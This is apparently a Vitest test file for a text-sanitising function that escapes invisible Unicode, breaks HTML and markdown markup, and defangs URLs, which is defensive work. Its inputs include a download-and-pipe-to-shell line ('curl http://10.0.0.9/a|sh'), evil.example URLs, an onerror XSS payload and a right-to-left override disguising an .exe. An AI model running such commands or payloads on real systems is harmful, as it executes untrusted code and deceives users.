import { describe, expect, test } from 'vitest';
import { neutralise, neutraliseExceptAddresses } from './neutralise.ts';

describe('neutralise', () => {
  test.each([
    'EICAR-Test-File (not a virus)',
    String.raw`c:\new\temp\users\bdadmin`,
    '/home/user2/test/index.html?wpdmdl=8842',
    'Prüfung – 文件 – תיק – ملف – 🦀',
    '{"a": [1, "%TEMP%"], `b`: < c >}',
    'GZ-1 (gz-1) [ GZ-1] [1, 2] a[b] (c) !x 1 <2 && x & y;',
    'bo@contoso.example',
    String.raw`\\server\share\setup.v1.exe`,
    'cmd //c dir',
    '',
  ])('leaves %j as it is', (text) => {
    expect(neutralise(text)).toBe(text);
  });

  test.each([
    ['line breaks', 'a\r\nb\nc', String.raw`a\r\nb\nc`],
    ['a tab', 'a\tb', String.raw`a\tb`],
    ['other controls', '\0\x1b[31m\x7f\x85', String.raw`\u0000\u001b[31m\u007f\u0085`],
    ['line and paragraph separators', 'a\u2028b\u2029', String.raw`a\u2028b\u2029`],
    ['a reversed extension', 'invoice\u202Efdp.exe', String.raw`invoice\u202efdp.exe`],
    ['bidi isolates and marks', '\u2066\u2069\u200E\u200F\u061C', String.raw`\u2066\u2069\u200e\u200f\u061c`],
    [
      'zero-width characters',
      'a\u200Bb\u200C\u200D\uFEFF\u2060',
      String.raw`a\u200bb\u200c\u200d\ufeff\u2060`,
    ],
    ['soft hyphens and blank fillers', '\u00AD\u3164\u115F', String.raw`\u00ad\u3164\u115f`],
    ['interlinear annotations', '\uFFF9a\uFFFB', String.raw`\ufff9a\ufffb`],
    ['tags', '\u{E0041}\u{E007F}', String.raw`\u{e0041}\u{e007f}`],
    ['variation selectors', '\uFE0F\u{E0100}', String.raw`\ufe0f\u{e0100}`],
    ['noncharacters', '\uFFFE\u{1FFFF}', String.raw`\ufffe\u{1ffff}`],
    ['halves of surrogate pairs', 'a\uD83Db\uDC00', String.raw`a\ud83db\udc00`],
  ])('shows %s as escapes', (_what, text, shown) => {
    expect(neutralise(text)).toBe(shown);
  });

  test.each([
    ['[GZ-6690e2c5]', '(GZ-6690e2c5]'],
    ['[gz-1] [Gz-2] [abc1-2] [a-z]', '(gz-1] (Gz-2] (abc1-2] (a-z]'],
    ['x [GZ-1 #2] [GZ-1 #3]', 'x (GZ-1 #2] (GZ-1 #3]'],
    ['[[GZ-1]', '[(GZ-1]'],
    ['[\u200BGZ-1]', String.raw`[\u200bGZ-1]`],
    ['[G\u202EZ-1]', String.raw`[G\u202eZ-1]`],
    ['[GZ\u00AD-1]', String.raw`[GZ\u00ad-1]`],
  ])('leaves no mark in %j', (text, shown) => {
    expect(neutralise(text)).toBe(shown);
    expect(neutraliseExceptAddresses(text)).toBe(shown);
  });

  test.each([
    ['[call us](tel:1)', '[call us] (tel:1)'],
    ['![x](p.png)', '! [x] (p.png)'],
    ['<img src=x onerror=alert(1)>', '< img src=x onerror=alert(1)>'],
    ['<b>Clean</b><!-- x --><?x', '< b>Clean< /b>< !-- x -->< ?x'],
    ['&lt;b&gt; &#x202e; &rlm', '& lt;b& gt; & #x202e; & rlm'],
    ['ends in &rlm ', 'ends in & rlm '],
    ['a][GZ-1](x', 'a] (GZ-1] (x'],
  ])('breaks the markup of %j', (text, shown) => {
    expect(neutralise(text)).toBe(shown);
    expect(neutraliseExceptAddresses(text)).toBe(shown);
  });

  test.each([
    ['https://evil.example/x.exe?y=1.2', 'hxxps://evil[.]example/x.exe?y=1.2'],
    ['HTTP://user:p.w@evil.example:8080', 'hxxp://user:p[.]w@evil[.]example:8080'],
    ['curl http://10.0.0.9/a|sh', 'curl hxxp://10[.]0[.]0[.]9/a|sh'],
    ['(https://a.example,http://b.example)', '(hxxps://a[.]example,hxxp://b[.]example)'],
    ['https://a.example/?to=https://b.example', 'hxxps://a[.]example/?to=hxxps://b[.]example'],
    ['ftp://evil.example/x file://evil.example/y', 'ftp[:]//evil[.]example/x file[:]//evil[.]example/y'],
    ['www.evil.example //evil.example/x', 'www[.]evil[.]example //evil[.]example/x'],
    ['mailto:a@evil.example', 'mailto[:]a@evil.example'],
    ['https://evil.(x) http://a!.b', 'hxxps://evil[.] (x) hxxp://a! [.]b'],
  ])('defangs %j', (text, shown) => {
    expect(neutralise(text)).toBe(shown);
  });

  test('leaves addresses where it is asked to', () => {
    expect(neutraliseExceptAddresses('https://evil.example/x')).toBe('https://evil.example/x');
  });
});
